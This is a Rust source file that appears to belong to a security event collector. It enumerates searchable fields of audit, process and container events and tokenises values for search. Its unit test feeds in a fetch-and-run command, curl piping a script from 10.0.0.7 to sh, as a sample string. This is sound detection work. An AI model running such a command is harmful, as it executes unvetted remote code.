//! What an event can be found by: its `field:value` pairs and the whole tokens inside the values. The collector puts
//! both into each batch's filter, and splits a search with the same functions.

use std::borrow::Cow;

use crate::meaning::{Endpoint, Identity, Loose, Pairs};
use crate::{Event, Meaning, Origin};

impl Meaning<'_> {
    /// Calls `visit` with every searchable field (by its dotted name in the JSON) and value of `event`, whose meaning
    /// this is. A field with several values (arguments, keys, tags) is visited once for each; the order is fixed.
    ///
    /// These are: `event_type`, `severity`, `source_service`, `server_hostname`, `user_id`, `action_result`, `tags`,
    /// `event.{id,action,outcome,category}`, `user[.effective|.audit|.target].{id,name}`, `group.{id,name}`,
    /// `process.{pid,parent.pid,session,executable,name,args,title,working_directory,tty}`,
    /// `process.parent.{executable,name}`, `file.{path,owner}`, `source` and `destination` `.{ip,port,path}`,
    /// `container.{id,name}`, `kubernetes.{namespace,pod.name,pod.uid}`, `auditd.{serial,syscall,keys}`,
    /// `auditd.paths.name`, and `details.resource`, `.command`, `.operation`; of an event in the ancestor's shape every
    /// plain value in `details`; of an `agent_state` `details.{source,state,reason}`.
    pub fn visit_terms(&self, event: &Event, visit: &mut dyn FnMut(&str, &str)) {
        let mut terms = Terms { visit };
        self.visit_top(event, &mut terms);
        self.visit_who(&mut terms);
        self.visit_process(&mut terms);
        self.visit_objects(&mut terms);
        visit_context(event, &mut terms);
        self.visit_details(event, &mut terms);
    }

    fn visit_top(&self, event: &Event, terms: &mut Terms<'_>) {
        terms.add("event_type", self.event_type.as_str());
        terms.add("severity", self.severity.as_str());
        terms.add("source_service", &self.source_service);
        terms.some("server_hostname", self.hostname.as_deref());
        terms.some("user_id", self.user_id.as_deref());
        terms.some("action_result", self.action_result.as_deref());
        for tag in &event.tags {
            terms.add("tags", tag);
        }
        terms.some("event.id", self.producer_id.as_deref());
        terms.add("event.action", &self.action);
        terms.some("event.outcome", self.outcome.map(crate::Outcome::as_str));
        for category in self.category {
            terms.add("event.category", category);
        }
        if let Origin::Audit(records) = &event.origin {
            terms.number("auditd.serial", Some(records.stamp.serial));
        }
    }

    fn visit_who(&self, terms: &mut Terms<'_>) {
        let user = &self.user;
        terms.identity("user.id", "user.name", &user.real);
        terms.identity("user.effective.id", "user.effective.name", &user.effective);
        terms.identity("user.audit.id", "user.audit.name", &user.audit);
        terms.identity("user.target.id", "user.target.name", &user.target);
        terms.identity("group.id", "group.name", &self.group.real);
    }

    fn visit_process(&self, terms: &mut Terms<'_>) {
        let process = &self.process;
        terms.number("process.pid", process.pid);
        terms.number("process.parent.pid", process.parent_pid);
        terms.number("process.session", process.session);
        terms.some("process.executable", process.executable.as_deref());
        terms.some("process.name", process.name.as_deref());
        for arg in &process.args {
            terms.add("process.args", arg);
        }
        terms.some("process.title", process.title.as_deref());
        terms.some("process.working_directory", process.working_directory.as_deref());
        terms.some("process.tty", process.tty.as_deref());
    }

    fn visit_objects(&self, terms: &mut Terms<'_>) {
        if let Some(file) = &self.file {
            terms.some("file.path", file.path.as_deref());
            terms.some("file.owner", file.owner.name.as_deref());
        }
        terms.endpoint(["source.ip", "source.port", "source.path"], self.source.as_ref());
        terms.endpoint(["destination.ip", "destination.port", "destination.path"], self.destination.as_ref());
        if let Some(object) = &self.kubernetes {
            terms.some("kubernetes.namespace", object.namespace.as_deref());
            terms.some("kubernetes.pod.name", object.pod_name.as_deref());
        }
        if let Some(syscall) = &self.syscall {
            terms.some("auditd.syscall", syscall.name.as_deref());
            for key in &syscall.keys {
                terms.add("auditd.keys", key);
            }
        }
        for path in &self.paths {
            terms.some("auditd.paths.name", path.name.as_deref());
        }
    }

    fn visit_details(&self, event: &Event, terms: &mut Terms<'_>) {
        if let Some(details) = self.details {
            let Pairs(pairs) = serde_json::from_str(details.get()).unwrap_or_default();
            for (name, Loose(value)) in pairs {
                terms.some(&format!("details.{name}"), value.as_deref());
            }
            return;
        }
        if let Origin::State(state) = &event.origin {
            terms.add("details.source", &state.source);
            terms.add("details.state", state.state.as_str());
            terms.some("details.reason", state.reason.as_deref());
        }
        terms.some("details.resource", self.resource.as_deref());
        terms.some("details.command", self.command.as_deref());
        terms.some("details.operation", self.operation.as_deref());
    }
}

/// The tokens of a value, for a search that names no field: the maximal runs of letters, digits, `_`, `-` and `.`,
/// without `.` or `-` at either end. `/usr/bin/curl` has `usr`, `bin` and `curl`; `10.0.0.7` is one token.
///
/// Case is kept: whoever wants to ignore it folds it on both sides.
pub fn tokens(value: &str) -> impl Iterator<Item = &str> {
    value
        .split(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '-' | '.')))
        .map(|run| run.trim_matches(['.', '-']))
        .filter(|token| !token.is_empty())
}

fn visit_context(event: &Event, terms: &mut Terms<'_>) {
    let Some(context) = &event.context else { return };
    if let Some(parent) = context.ancestors.first() {
        terms.some("process.parent.executable", parent.executable.as_deref());
        terms.some("process.parent.name", parent.name.as_deref());
    }
    if let Some(container) = &context.container {
        terms.add("container.id", &container.id);
        terms.some("container.name", container.name.as_deref());
        terms.some("kubernetes.pod.uid", container.pod_uid.as_deref());
        terms.some("kubernetes.pod.name", container.pod_name.as_deref());
        terms.some("kubernetes.namespace", container.namespace.as_deref());
    }
}

/// Passes on what is there.
struct Terms<'v> {
    visit: &'v mut dyn FnMut(&str, &str),
}

impl Terms<'_> {
    fn add(&mut self, field: &str, value: &str) {
        (self.visit)(field, value);
    }

    fn some(&mut self, field: &str, value: Option<&str>) {
        if let Some(value) = value {
            self.add(field, value);
        }
    }

    fn number(&mut self, field: &str, value: Option<u32>) {
        if let Some(value) = value {
            self.add(field, itoa::Buffer::new().format(value));
        }
    }

    fn identity(&mut self, id: &str, name: &str, identity: &Identity<'_>) {
        self.some(id, identity.id.as_ref().map(Cow::as_ref));
        self.some(name, identity.name.as_ref().map(Cow::as_ref));
    }

    fn endpoint(&mut self, [ip, port, path]: [&str; 3], endpoint: Option<&Endpoint<'_>>) {
        let Some(endpoint) = endpoint else { return };
        self.some(ip, endpoint.ip.as_deref());
        self.number(port, endpoint.port.map(u32::from));
        self.some(path, endpoint.path.as_deref());
    }
}

#[cfg(test)]
mod tests {
    use super::tokens;

    #[test]
    fn tokens_are_the_words_a_person_would_type() {
        for (value, expected) in [
            ("/usr/bin/curl", vec!["usr", "bin", "curl"]),
            (
                "curl -fsSL http://10.0.0.7:8080/x.sh | sh",
                vec!["curl", "fsSL", "http", "10.0.0.7", "8080", "x.sh", "sh"],
            ),
            ("kube-system/my_pod.", vec!["kube-system", "my_pod"]),
            ("Grüße…", vec!["Grüße"]),
            ("-- ..", vec![]),
        ] {
            assert_eq!(tokens(value).collect::<Vec<_>>(), expected, "{value}");
        }
    }
}
